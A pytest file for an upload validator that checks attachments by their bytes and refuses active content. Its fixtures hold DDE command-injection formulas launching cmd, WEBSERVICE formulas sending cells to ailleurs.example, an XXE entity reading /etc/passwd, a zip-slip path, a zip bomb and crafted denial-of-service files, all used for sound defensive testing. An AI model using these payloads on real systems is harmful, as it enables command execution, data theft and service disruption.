"""UPL-01, UPL-03: what an attachment really is, by its bytes; whatever runs, calls or hides another file is refused."""

from __future__ import annotations

import io
import resource
import sys
import time
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from fce.echanges.erreurs import PieceRefusee
from fce.echanges.pieces import controles
from fce.echanges.pieces.genres import GENRES_PIECE, genre_de, verifier_piece
from tests.echanges.interactions.fabrique import png
from tests.echanges.pieces import fabrique as p

BONNES = {
    "rapport.pdf": p.pdf(),
    "photo.png": png(),
    "photo.JPG": p.jpeg(),
    "liste.csv": b"nom;effectif\nDUPONT & FILS;-12\nA|B;=1+1\n",
    "liste-excel.csv": "nom;ville\nÉtablissement;Lille\n".encode("cp1252"),
    "tableau.xlsx": p.xlsx(),
    "note.docx": p.docx(relations=p.relation("hyperlink", "https://exemple.gouv.fr")),
    "tableau.ods": p.odf(corps='<text:a xlink:href="https://exemple.gouv.fr">site</text:a>'),
    "note.odt": p.odf("text"),
}
BOMBE = p.avec(p.xlsx(), {"xl/worksheets/sheet9.xml": b"<a>" + b" " * (40 << 20) + b"</a>"})
FORMULES_ACTIVES = (
    '=IMAGE("https://ailleurs.example/x.png")',
    '=_xlfn.IMAGE("https://ailleurs.example/x.png")',
    '=RTD("prog.id";;"x")',
    '=WEBSERVICE("https://ailleurs.example/"&A1)',
    '=SUM(A1;WEBSERVICE("https://ailleurs.example/"))',
    '=HYPERLINK("file://serveur/partage","voir")',
    "='https://ailleurs.example/[x.xlsx]F'!A1",
    '=\'a"\'!A1+WEBSERVICE("https://ailleurs.example/")',
    "=STOCKHISTORY(A1)",
    '=CALL("urlmon";"URLDownloadToFileA")',
)
_CHAMPS = (
    '<w:instrText> INCLUDEPICTURE "https://ailleurs.example/x.png" \\d</w:instrText>',
    '<w:instrText> includetext "file://serveur/x.docx"</w:instrText>',
    "<w:instrText> IM</w:instrText><w:instrText>PORT x</w:instrText>",
    '<w:instrText> LINK Excel.Sheet.8 "x.xlsx"</w:instrText>',
    '<w:instrText> IF </w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDEPICTURE "x"</w:instrText>'
    '<w:fldChar w:fldCharType="end"/><w:instrText> = 1</w:instrText>',
)
_DEBUT, _FIN = '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>'
CHAMPS_ACTIFS = [*(f"{_DEBUT}{texte}{_FIN}" for texte in _CHAMPS), f"{_DEBUT}{_CHAMPS[0]}"]
CELLULES_DE_TEXTE = (
    "-Dupont (Lille)",
    "- Réunion (3 personnes)",
    "-Dupont (59)",
    "+33 (0)1 02 03 04 05",
    "@contact (Seine-Saint-Denis, Nord)",
    "- voir https://exemple.gouv.fr (page des aides)",
    "- oui | non",
)
CELLULES_ACTIVES = (
    "-SUM(A1)",
    '-RTD ("x")',
    "+WEBSERVICE (A1)",
    "@SUM (A:A)",
    '-Dupont (Lille)("x")',
    '-2+RTD("prog.id")',
    "-2+3+cmd|'/C calc'!A0",
    "+-=cmd|'/C calc'!A0",
    "-1+'https://ailleurs.example/[x.xlsx]F'!A1",
)
ADMISES = {
    "tableau.xlsx": p.xlsx("=IF(SUM(A1:A2)>2,\"voir (x)\",_xlfn.XLOOKUP(A1,'Feuille (2)'!A:A,A:A))"),
    "note.docx": p.docx(
        '<w:fldChar w:fldCharType="begin"/><w:instrText xml:space="preserve"> TOC \\o "1-3" \\h </w:instrText>'
        '<w:fldChar w:fldCharType="separate"/><w:fldSimple w:instr=" PAGE "/><w:fldChar w:fldCharType="end"/>'
    ),
    "liste.csv": b"nom;telephone;solde\n-Dupont;+33 1 02 03 04 05;=1+1\n@contact;-12,5;=A1\n",
    **{f"a9-texte-{n}.csv": f"nom;note\n1;{cellule}\n".encode() for n, cellule in enumerate(CELLULES_DE_TEXTE)},
    "tableau.ods": p.odf(corps='<table:table-cell table:formula="of:=SUM([.A1:.A2])"/>'),
}
DTD = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
HTML = b"<html><script>alert(1)</script></html>"


MAUVAISES = {
    "page.html": HTML,
    "dessin.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>",
    "programme.exe": b"MZ\x90\0",
    "script.js": b"alert(1)",
    "sans-extension": b"abc",
    ".htaccess": b"Allow from all",
    "facture.exe.pdf": p.pdf(),
    "classeur.xlsm": p.xlsx(),
    "vide.pdf": b"",
    "faux.pdf": png(),
    "faux.png": p.pdf(),
    "faux.jpg": png(),
    "faux.xlsx": p.odf(),
    "faux.ods": p.odf("text"),
    "faux.docx": p.xlsx(),
    "faux.csv": b"MZ\x90\0\x03",
    "appel.csv": b"nom;valeur\n1;=cmd|'/C calc'!A0\n",
    "appel-cite.csv": b"nom;valeur\n1;\"=cmd|'/C calc'!A0\"\n",
    "avant.pdf": HTML + p.pdf(),
    "macro.xlsx": p.avec(p.xlsx(), {"xl/vbaProject.bin": b"x"}),
    "lien.xlsx": p.avec(p.xlsx(), {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}),
    "dde.xlsx": p.xlsx("=cmd|'/C calc'!A0"),
    "service.xlsx": p.xlsx('=WEBSERVICE("https://ailleurs.example/")'),
    "ddelink.xlsx": p.avec(p.xlsx(), {"xl/autre.xml": b"<a><ddeLink ddeService='cmd'/></a>"}),
    "connexion.xlsx": p.avec(p.xlsx(), {"xl/connections.xml": b"<connections/>"}),
    "ole.xlsx": p.avec(p.xlsx(), {"xl/embeddings/oleObject1.bin": b"x"}),
    "entite.xlsx": p.avec(p.xlsx(), {"xl/autre.xml": DTD}),
    "bombe.xlsx": BOMBE,
    "chemin.xlsx": p.avec(p.xlsx(), {"../../x.xml": b"<a/>"}),
    "avant.xlsx": b"#!/bin/sh\n" + p.xlsx(),
    "modele.docx": p.docx(relations=p.relation("attachedTemplate", "https://ailleurs.example/x.dotm")),
    "image.docx": p.docx(relations=p.relation("image", "https://ailleurs.example/x.png")),
    "lien-fichier.docx": p.docx(relations=p.relation("hyperlink", "file://serveur/partage/x")),
    "dde.docx": p.docx(
        '<w:fldChar w:fldCharType="begin"/><w:instrText>DDEA</w:instrText><w:instrText>UTO cmd "/k"</w:instrText>'
    ),
    "dde-simple.docx": p.docx('<w:fldSimple w:instr="DDE cmd &quot;/k&quot;"/>'),
    "macro.odt": p.odf("text", corps='<script:event-listener script:event-name="dom:load"/>'),
    "basic.ods": p.odf(**{"Basic/Standard/Module1.xml": b"<a/>"}),
    "dde.ods": p.odf(corps='<office:dde-source office:dde-application="cmd"/>'),
    "image.odt": p.odf("text", corps='<draw:image xlink:href="https://ailleurs.example/x.png"/>'),
    **{f"a9-{n}.xlsx": p.xlsx(formule) for n, formule in enumerate(FORMULES_ACTIVES)},
    **{f"a9-{n}.csv": f"nom;valeur\n1;{formule}\n".encode() for n, formule in enumerate(FORMULES_ACTIVES)},
    **{f"a9-champ-{n}.docx": p.docx(champ) for n, champ in enumerate(CHAMPS_ACTIFS)},
    "a9-fonction-traduite.csv": b'nom;valeur\n1;=SERVICEWEB("https://ailleurs.example/")\n',
    **{f"a9-signe-{n}.csv": f"nom;note\n1;{cellule}\n".encode() for n, cellule in enumerate(CELLULES_ACTIVES)},
    "a9-sur-deux-lignes.csv": b'nom;valeur\n1;"=1+\nRTD(""x"";;""y"")"\n',
    "a9-virgule.csv": b"nom,valeur\n1,@IMAGE(A1)\n",
    "a9-nom-defini.xlsx": p.avec_nom_defini('WEBSERVICE("https://ailleurs.example/"&Sheet!A1)'),
    "a9-altchunk.docx": p.docx('<w:altChunk r:id="r1" xmlns:r="r"/>'),
    "a9-altchunk-lien.docx": p.docx(relations=p.relation("aFChunk", "afchunk.htm")),
    "a9-unc.docx": p.docx(relations=p.relation("hyperlink", r"\\\\serveur\\partage\\x")),
    "a9-unc-ecrit.docx": p.docx(r'<w:fldSimple w:instr="HYPERLINK &quot;\\\\serveur\\partage&quot;"/>'),
    "a9-fichier.docx": p.docx(r'<w:fldSimple w:instr="HYPERLINK &quot;file://serveur/partage&quot;"/>'),
    "a9-interne-qui-sort.docx": p.docx(relations=p.relation("image", "file://serveur/x.png", "Internal")),
    "a9-vml.docx": p.docx('<w:pict><v:imagedata xmlns:v="v" src="//ailleurs.example/x.png"/></w:pict>'),
    "a9-cadre.odt": p.odf("text", corps='<draw:floating-frame xlink:href="https://ailleurs.example/"/>'),
    "a9-unc.odt": p.odf("text", corps=r'<text:a xlink:href="file://serveur/partage">x</text:a>'),
    "a9-image.ods": p.odf(corps="<table:table-cell table:formula='of:=IMAGE(&quot;https://ailleurs.example/&quot;)'/>"),
    "a9-partie.docx": p.avec(p.docx(), {"word/afchunk.htm": b"<html/>"}),
    "a9-inconnue.xlsx": p.avec(p.xlsx(), {"xl/webextensions/webextension1.xml": b"<a/>"}),
    "formule.ods": p.odf(corps="<table:table-cell table:formula=\"of:=DDE('cmd';'x';'y')\"/>"),
}


@pytest.mark.parametrize("nom", BONNES)
def test_upl_01_a_file_of_an_accepted_kind_is_taken_under_its_real_type(nom: str, tmp_path: Path) -> None:
    assert verifier_piece(p.poser(tmp_path, nom, BONNES[nom]), nom) == genre_de(nom).type_reel


@pytest.mark.parametrize("nom", ADMISES)
def test_a9_formulas_and_fields_that_compute_from_the_document_stay(nom: str, tmp_path: Path) -> None:
    verifier_piece(p.poser(tmp_path, nom, ADMISES[nom]), nom)


@pytest.mark.parametrize("nom", MAUVAISES)
def test_upl_03_what_runs_calls_or_hides_another_file_is_refused(nom: str, tmp_path: Path) -> None:
    with pytest.raises(PieceRefusee):
        verifier_piece(p.poser(tmp_path, nom, MAUVAISES[nom]), nom)


@pytest.mark.parametrize("extension", GENRES_PIECE)
@given(octets=st.binary(max_size=2000))
@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
def test_upl_01_whatever_the_bytes_the_answer_is_yes_or_a_refusal(
    extension: str, octets: bytes, tmp_path: Path
) -> None:
    debuts = {".pdf": b"%PDF-1.7\n", ".png": b"\x89PNG\r\n\x1a\n", ".jpg": b"\xff\xd8\xff"}
    chemin = p.poser(tmp_path, "x", debuts.get(extension, b"") + octets)
    try:
        verifier_piece(chemin, f"x{extension}")
    except PieceRefusee:
        return
    assert not genre_de(f"x{extension}").controle or extension == ".csv"


@pytest.mark.parametrize("nom", ["tableau.xlsx", "note.odt"])
def test_upl_03_a_damaged_file_is_refused_and_breaks_nothing(nom: str, tmp_path: Path) -> None:
    octets = BONNES[nom]
    for coupe in range(0, len(octets) - 30, max(1, len(octets) // 25)):
        with pytest.raises(PieceRefusee):
            verifier_piece(p.poser(tmp_path, nom, octets[:coupe]), nom)


def pdf_aux_mille_flux() -> bytes:
    """Compressed parts that all begin and none of which is one: each costs a walker the rest of the file."""
    return b"%PDF-1.7\n" + b"stream\n\x78\x9c" * 23_000 + zlib.compress(b"0" * (60 << 20)) + b"startxref\n0\n%%EOF"


def docx_aux_balises_sans_fin() -> bytes:
    corps = "".join(f'<w:t a="{n * 7919 % 99991}"/>' for n in range(2_500_000))
    return p.avec(p.docx(), {f"word/header{n}.xml": f"<a>{corps}</a>".encode() for n in range(2)})


def docx_aux_champs_imbriques() -> bytes:
    """About 2.8 MB: fields that open inside one another, and never close."""
    champs = "".join(f"{_DEBUT}<w:instrText> IF {n * 7919 % 99991} </w:instrText>" for n in range(400_000))
    return p.docx(champs)


def xlsx_aux_guillemets() -> bytes:
    """Formulas as long as they may be, of quotes: one that is never closed costs the others of its formula."""
    formule = "A1+" + "'" * 8_180 + "A1"
    corps = f'<c r="A1"><f>{formule}</f></c>' * 1_000
    return p.avec(p.xlsx(), {"xl/worksheets/sheet9.xml": f"<worksheet>{corps}</worksheet>".encode()})


@pytest.mark.epreuve
@pytest.mark.processus_borne
@pytest.mark.parametrize(
    ("nom", "fabriquer"),
    [
        ("rapport.pdf", pdf_aux_mille_flux),
        ("note.docx", docx_aux_balises_sans_fin),
        ("imbriques.docx", docx_aux_champs_imbriques),
        ("champs.docx", lambda: p.docx("<w:instrText>" + "DDE " * 2_000_000 + "</w:instrText>")),
        ("formules.xlsx", lambda: p.xlsx("=" + "'" * 30_000)),
        ("guillemets.xlsx", xlsx_aux_guillemets),
        ("cellules.csv", lambda: b"=" + b"A" * (9 << 20)),
    ],
)
def test_a9_an_attack_costs_a_few_seconds_of_a_child_and_nothing_of_the_server(
    nom: str, fabriquer: Callable[[], bytes], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    chemin = p.poser(tmp_path, nom, fabriquer())
    ici, fils = time.process_time(), resource.getrusage(resource.RUSAGE_CHILDREN)
    try:
        dit = verifier_piece(chemin, nom)
    except PieceRefusee as refus:
        dit = refus.message
    ici, apres = time.process_time() - ici, resource.getrusage(resource.RUSAGE_CHILDREN)
    du_fils = apres.ru_utime + apres.ru_stime - fils.ru_utime - fils.ru_stime
    with capsys.disabled():
        sys.stdout.write(f"\n{nom} : {chemin.stat().st_size} octets, {ici:.2f} s ici, {du_fils:.1f} s au fils\n{dit}\n")
    assert ici < 1
    assert du_fils < controles.BORNES.processeur + 3


def test_the_bomb_of_these_tests_is_one() -> None:
    with zipfile.ZipFile(io.BytesIO(BOMBE)) as archive:
        assert max(m.file_size for m in archive.infolist()) > 40 * len(BOMBE)
